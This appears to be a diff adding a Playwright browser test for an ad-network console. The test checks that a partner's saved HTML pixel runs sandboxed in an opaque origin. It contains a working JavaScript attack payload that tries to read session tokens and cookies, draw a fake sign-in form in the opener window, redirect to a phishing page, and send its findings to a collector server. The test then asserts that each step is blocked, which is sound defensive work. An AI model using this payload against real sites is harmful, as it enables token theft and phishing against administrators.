@@ -1,0 +1,170 @@
+"""A partner's HTML pixel against the console, in a real browser (Debian's Chromium, Playwright).
+
+The attack of issue 26: the network lets partners save HTML pixel code; a partner saves a script
+that, served by the iframe pixel on the tracking host (which is also the console's host), tries
+to read the console's tokens, to move the address bar to the console and draw a sign-in form
+there, and to navigate the console's window. The pixel's HTML runs sandboxed in an opaque origin
+(``Content-Security-Policy: sandbox allow-scripts``): its script runs, and finds nothing.
+"""
+
+from __future__ import annotations
+
+import json
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any
+from urllib.parse import unquote, urlsplit
+
+import pytest
+
+from tests.e2e.chromium import ARGS, CHROMIUM
+from tests.e2e.conftest import LocalRuntime, click, make_network, wait_for
+from tests.e2e.test_console_browser import printed
+
+pytestmark = [pytest.mark.e2e, pytest.mark.browser]
+
+
+class Attacker(ThreadingHTTPServer):
+    """The partner's server: it collects what its script found, and hosts the fake sign-in page."""
+
+    def __init__(self) -> None:
+        super().__init__(("127.0.0.1", 0), _Collect)
+        self.loot: list[dict[str, str]] = []
+        self.visits: list[str] = []
+
+    @property
+    def base(self) -> str:
+        return f"http://127.0.0.1:{self.server_address[1]}"
+
+
+class _Collect(BaseHTTPRequestHandler):
+    server: Attacker
+
+    def do_GET(self) -> None:
+        parts = urlsplit(self.path)
+        if parts.path == "/loot":
+            self.server.loot.append(json.loads(unquote(parts.query)))
+        else:
+            self.server.visits.append(self.path)
+        self.send_response(200)
+        self.send_header("content-type", "text/html")
+        self.send_header("content-length", "0")
+        self.end_headers()
+
+    def log_message(self, *args: Any) -> None:
+        pass
+
+
+@pytest.fixture
+def attacker() -> Iterator[Attacker]:
+    server = Attacker()
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield server
+    server.shutdown()
+
+
+def attack_script(collector: str) -> str:
+    """Everything the partner's script of the report did, each step's outcome sent home."""
+    return (
+        '<div id="gp" data-tid="{transaction_id}"></div><script>'
+        "var out = {tid: document.getElementById('gp').dataset.tid};"
+        "function attempt(name, step) { try { out[name] = String(step()); }"
+        " catch (e) { out[name] = 'blocked: ' + e.name; } }"
+        "attempt('origin', function () { return self.origin; });"
+        "attempt('session', function () { return JSON.stringify(Object.assign({}, sessionStorage)); });"
+        "attempt('local', function () { return JSON.stringify(Object.assign({}, localStorage)); });"
+        "attempt('cookie', function () { return document.cookie; });"
+        "var opener = window.opener || window.top.opener;"
+        "attempt('opener_session', function () {"
+        " return opener ? JSON.stringify(Object.assign({}, opener.sessionStorage)) : 'no opener'; });"
+        "attempt('opener_draw', function () { if (!opener) return 'no opener';"
+        " opener.document.body.innerHTML = '<h1 id=fake>Sign in again</h1>'; return 'drawn'; });"
+        "attempt('opener_navigate', function () { if (!opener) return 'no opener';"
+        f" opener.location.href = '{collector}/phish?opener'; return 'navigated'; }});"
+        "attempt('top_draw', function () { window.top.document.body.innerHTML = '<form>Sign in again</form>';"
+        " return 'drawn'; });"
+        "attempt('address_bar', function () { history.replaceState(null, '', '/console#/'); return location.href; });"
+        "fetch('/console').then(function (r) { return r.text(); })"
+        ".then(function (t) { out.fetch_console = 'read ' + t.length; }, function (e) { out.fetch_console = 'blocked: ' + e.name; })"
+        f".then(function () {{ new Image().src = '{collector}/loot?' + encodeURIComponent(JSON.stringify(out)); }});"
+        "</script>"
+    )
+
+
+def _network_takes_partner_html(runtime: LocalRuntime) -> None:
+    network = runtime.admin("GET", "/admin/network").json()
+    updated = runtime.admin(
+        "PUT",
+        "/admin/network",
+        {"partners_manage_postbacks": True, "partners_html_pixels": True},
+        headers={"if-match": f'"{network["version"]}"'},
+    )
+    assert updated.status == 200, updated.body
+
+
+def test_a_partners_pixel_script_finds_nothing_of_the_console_and_cannot_touch_its_window(
+    runtime: LocalRuntime, attacker: Attacker
+) -> None:
+    from playwright.sync_api import sync_playwright
+
+    net = make_network(
+        runtime,
+        "https://shop.example.com/landing?tid={transaction_id}",
+        goals=[{"name": "Upgrade", "protocol": "iframe", "payout": {"flat": "1"}}],
+    )
+    offer_id, goal_id = net["offer"]["offer_id"], net["goals"][0]["goal_id"]
+    _network_takes_partner_html(runtime)
+    saved = runtime.get(
+        f"/partner/offers/{offer_id}/postbacks",
+        {"x-api-key": net["partner"]["api_key"]},
+        method="POST",
+        data={"goal_id": goal_id, "kind": "html", "code": attack_script(attacker.base)},
+    )
+    assert saved.status == 201, saved.body
+    tids = [click(runtime, net), click(runtime, net)]  # a session each: every hit converts and shows
+    pixels = [
+        f"{runtime.base_url}/aff_goal?a=l&goal_name=upgrade&offer_id={offer_id}&transaction_id={tid}"
+        for tid in tids
+    ]
+
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
+        try:
+            page = browser.new_context().new_page()
+            page.set_default_timeout(15_000)
+            page.goto(printed(runtime, r"Console \(signed in as admin\): (\S+)").group(1))
+            page.get_by_role("heading", name="Offers", exact=True).wait_for()
+            tokens = page.evaluate("JSON.stringify(Object.assign({}, sessionStorage))")
+            assert "refresh" in tokens  # the console's tokens are there to be stolen
+
+            # 1. the admin opens the pixel from the console (a new window: the console is its opener)
+            with page.expect_popup() as popped:
+                page.evaluate(f"window.open({json.dumps(pixels[0])})")
+            popup = popped.value
+            wait_for(lambda: len(attacker.loot) == 1)
+            from_popup = attacker.loot[0]
+            popup.close()
+
+            # 2. the admin follows the pixel's link in the console's own tab
+            page.goto(pixels[1])
+            wait_for(lambda: len(attacker.loot) == 2)
+            in_tab = attacker.loot[1]
+            shown_url = page.url
+        finally:
+            browser.close()
+
+    for found, tid in ((from_popup, tids[0]), (in_tab, tids[1])):
+        assert found["tid"] == tid, found  # the partner's pixel ran, with its macro filled in
+        assert found["origin"] == "null"  # an opaque origin, not the console's
+        assert found["session"].startswith("blocked") and found["local"].startswith("blocked")
+        assert found["cookie"].startswith("blocked")
+        assert found["fetch_console"].startswith("blocked")
+        assert found["address_bar"].startswith("blocked")
+        assert "refresh" not in json.dumps(found) and "access" not in json.dumps(found)
+        assert found["top_draw"].startswith("blocked")  # nothing drawn on the page around it
+    assert from_popup["opener_session"].startswith("blocked")
+    assert from_popup["opener_draw"].startswith("blocked")
+    assert attacker.visits == []  # the console's window was never navigated to the partner's page
+    assert shown_url == pixels[1]  # the address bar never showed the console for the partner's page
